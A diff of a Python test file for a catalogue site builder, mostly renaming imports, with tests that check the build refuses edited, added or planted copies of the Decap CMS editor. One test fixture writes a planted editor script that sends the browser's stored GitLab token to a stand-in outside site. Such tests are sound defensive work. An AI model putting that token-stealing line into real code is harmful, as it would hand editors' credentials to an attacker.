@@ -31,12 +31,12 @@ EPOCH = "1795564800"
 DRIVER = textwrap.dedent("""
     import sys
     from pathlib import Path
-    from catalogue.glue import generator
+    from catalogue.glue import render
     from catalogue.content import load
-    from catalogue.outputs import subscribe
+    from catalogue.outputs import qrcodes
     from catalogue.glue.build import build_site
-    load._PARALLEL_FROM = generator.PARALLEL_FROM = subscribe._PARALLEL_FROM = 1
-    generator.MEMORY_BUDGET_MB = 10**9
+    load._PARALLEL_FROM = render.PARALLEL_FROM = qrcodes._PARALLEL_FROM = 1
+    render.MEMORY_BUDGET_MB = 10**9
     build_site(Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3]))
 """)
 
@@ -260,13 +260,14 @@ def test_a_planted_or_edited_cached_qr_code_is_never_published(tmp_path):
 @pytest.fixture(scope="module")
 def real_editor(tmp_path_factory) -> Path:
     """A copy of the real Decap CMS files (fetched from the npm registry once, by `make admin`)."""
-    from catalogue.outputs import admin as cms
+    from catalogue.outputs import admin as admin_writer
+    from catalogue.tools import vendor
 
     try:
-        source = cms.vendor_editor()
-    except cms.EditorUnavailable as exc:
+        source = vendor.vendor_editor()
+    except admin_writer.EditorUnavailable as exc:
         pytest.fail(f"éditeur en ligne indisponible : {exc}")
-    copy = tmp_path_factory.mktemp("cache") / "decap-cms" / cms.DECAP_VERSION
+    copy = tmp_path_factory.mktemp("cache") / "decap-cms" / admin_writer.DECAP_VERSION
     import shutil
 
     shutil.copytree(source, copy)
@@ -274,25 +275,26 @@ def real_editor(tmp_path_factory) -> Path:
 
 
 def admin(cache: Path, caplog) -> dict[str, bytes]:
-    from catalogue.outputs import admin as cms
+    from catalogue.outputs import admin as admin_writer
     from catalogue.content.load import load_catalogue
 
     with caplog.at_level("WARNING"):
-        return cms.admin_files(load_catalogue(ROOT), "", environ={"CATALOGUE_CACHE": str(cache)})
+        return admin_writer.admin_files(load_catalogue(ROOT), "", environ={"CATALOGUE_CACHE": str(cache)})
 
 
 @pytest.mark.parametrize("tampering", ["edited", "added", "planted"])
 def test_tampered_editor_files_are_refused_whatever_the_marker(real_editor, tmp_path, caplog, tampering):
     import shutil
 
-    from catalogue.outputs import admin as cms
+    from catalogue.outputs import admin as admin_writer
+    from catalogue.tools import vendor
 
     assert "admin/decap-cms.js" in admin(real_editor.parents[1], caplog)  # the genuine files are served
     cache = tmp_path / "cache"
-    folder = cache / "decap-cms" / cms.DECAP_VERSION
+    folder = cache / "decap-cms" / admin_writer.DECAP_VERSION
     if tampering == "planted":  # a pull request commits a marker and its own "editor"
         folder.mkdir(parents=True)
-        (folder / ".complete").write_text('{"integrity": "%s"}' % cms.DECAP_INTEGRITY)
+        (folder / ".complete").write_text('{"integrity": "%s"}' % vendor.DECAP_INTEGRITY)
         (folder / "decap-cms.js").write_text("fetch('https://autre-site.example/?'+localStorage.getItem('gitlab-token'))")
     else:
         shutil.copytree(real_editor, folder)
@@ -312,5 +314,5 @@ def test_tampered_editor_files_are_refused_whatever_the_marker(real_editor, tmp_
     failing_npm = tmp_path / "npm"
     failing_npm.write_text("#!/bin/sh\necho 'npm ERR! hors ligne' >&2\nexit 1\n")
     failing_npm.chmod(0o755)
-    with pytest.raises(cms.EditorUnavailable, match="npm n'a pas pu télécharger"):  # `make admin` fetches it again
-        cms.vendor_editor({"CATALOGUE_CACHE": str(cache)}, npm=str(failing_npm))
+    with pytest.raises(admin_writer.EditorUnavailable, match="npm n'a pas pu télécharger"):  # `make admin` fetches it again
+        vendor.vendor_editor({"CATALOGUE_CACHE": str(cache)}, npm=str(failing_npm))
